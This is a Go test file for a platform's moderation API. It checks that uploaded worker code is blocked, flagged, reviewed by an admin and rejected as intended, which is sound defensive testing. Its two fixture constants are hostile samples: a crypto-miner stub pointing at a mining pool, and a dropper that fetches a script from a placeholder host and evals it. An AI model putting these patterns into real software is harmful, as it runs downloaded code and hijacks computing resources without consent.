package web_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
)

const (
	minerWorker   = "const pool = 'stratum+tcp://pool.supportxmr.com:3333';\nexport default { fetch() { return new Response(pool) } }"
	dropperWorker = "export default { async fetch() {\n  const r = await fetch('https://x.example/p.js');\n  return eval(await r.text());\n} }"
)

// TestModerationAPI: a block rule refuses the save, a flag rule saves a version that cannot be
// deployed until an admin approves it, and a rejected one never, through the API.
func TestModerationAPI(t *testing.T) {
	w := newWorld(t)
	p := w.p
	if r := p.api(t, "POST", "/api/v1/apps", w.tokA, "application/json", `{"slug":"modapi","name":"Mod"}`); r.Status != 201 {
		t.Fatalf("app: %d %s", r.Status, r.Body)
	}
	r := p.api(t, "POST", "/api/v1/apps/modapi/versions", w.tokA, "application/json", jsonVersion("index.js", map[string]string{"index.js": minerWorker}))
	if r.Status != 422 || !strings.Contains(r.Body, `"blocked"`) || !strings.Contains(r.Body, "Crypto-mining") {
		t.Fatalf("miner: %d %s", r.Status, r.Body)
	}
	r = p.api(t, "POST", "/api/v1/apps/modapi/versions", w.tokA, "application/json", jsonVersion("index.js", map[string]string{"index.js": dropperWorker}))
	var v struct {
		ID          uint   `json:"id"`
		ReviewState string `json:"review_state"`
	}
	if err := json.Unmarshal([]byte(r.Body), &v); r.Status != 201 || err != nil || v.ReviewState != "pending" {
		t.Fatalf("dropper: %d %s", r.Status, r.Body)
	}
	deploy := fmt.Sprintf(`{"version_id":%d}`, v.ID)
	if r := p.api(t, "POST", "/api/v1/apps/modapi/deployments", w.tokA, "application/json", deploy); r.Status != 409 || !strings.Contains(r.Body, "review_pending") {
		t.Fatalf("deploy pending: %d %s", r.Status, r.Body)
	}
	// The tenant's own portal deploy is refused too (the store enforces it, not the page).
	if r := w.a.post("/apps/modapi/deployments", url.Values{"version_id": {fmt.Sprint(v.ID)}}); r.Status != 409 {
		t.Fatalf("portal deploy pending: %d %.200s", r.Status, r.Body)
	}
	// The admin sees it in the queue, with the matching line; a tenant cannot reach the queue.
	q := w.admin.get("/admin/review")
	if q.Status != 200 || !strings.Contains(q.Body, "modapi") || !strings.Contains(q.Body, "eval-of-fetched-code") {
		t.Fatalf("queue: %d %.300s", q.Status, q.Body)
	}
	item := fmt.Sprintf("/admin/review/%d", v.ID)
	d := w.admin.get(item)
	if d.Status != 200 || d.doc(t).Find("mark.hit").Length() == 0 || !strings.Contains(d.doc(t).Find("mark.hit").First().Text(), "eval(await r.text())") {
		t.Fatalf("review page: %d %.500s", d.Status, d.Body)
	}
	for _, who := range []*browser{w.a, w.anon} {
		if r := who.get(item); r.Status != 404 && r.Status != 303 {
			t.Fatalf("non-admin review page: %d", r.Status)
		}
		if r := who.post(item+"/decision", url.Values{"decision": {"approve"}, "from": {"pending"}}); r.Status != 404 && r.Status != 303 {
			t.Fatalf("non-admin decision: %d", r.Status)
		}
	}
	// Reject without a reason: 422; with a stale state: 409; then reject.
	if r := w.admin.post(item+"/decision", url.Values{"decision": {"reject"}, "from": {"pending"}}); r.Status != 422 {
		t.Fatalf("reject without reason: %d %.300s", r.Status, r.Body)
	}
	if r := w.admin.post(item+"/decision", url.Values{"decision": {"approve"}, "from": {"approved"}}); r.Status != 409 {
		t.Fatalf("stale decision: %d %.300s", r.Status, r.Body)
	}
	r = w.admin.post(item+"/decision", url.Values{"decision": {"reject"}, "from": {"pending"}, "reason": {"Runs code it downloads."}})
	if cf := r.doc(t).Find("#confirm"); r.Status != 200 || cf.Find("input[name=decision][value=reject]").Length() != 1 || cf.Find("input[name=reason]").AttrOr("value", "") != "Runs code it downloads." {
		t.Fatalf("reject asks for a confirmation: %d %.300s", r.Status, r.Body)
	}
	if r := w.admin.post(item+"/decision", url.Values{"decision": {"reject"}, "from": {"pending"}, "reason": {"Runs code it downloads."}, "confirm": {"yes"}}); r.Status != 303 {
		t.Fatalf("reject: %d %.300s", r.Status, r.Body)
	}
	if r := p.api(t, "POST", "/api/v1/apps/modapi/deployments", w.tokA, "application/json", deploy); r.Status != 409 || !strings.Contains(r.Body, "version_rejected") || !strings.Contains(r.Body, "Runs code it downloads.") {
		t.Fatalf("deploy rejected: %d %s", r.Status, r.Body)
	}
	vt := w.a.get("/apps/modapi/versions")
	if !strings.Contains(vt.Body, "rejected") || !strings.Contains(vt.Body, "Runs code it downloads.") || strings.Contains(vt.Body, "Deploy this version") {
		t.Fatalf("versions tab: %.2000s", vt.Body)
	}
}
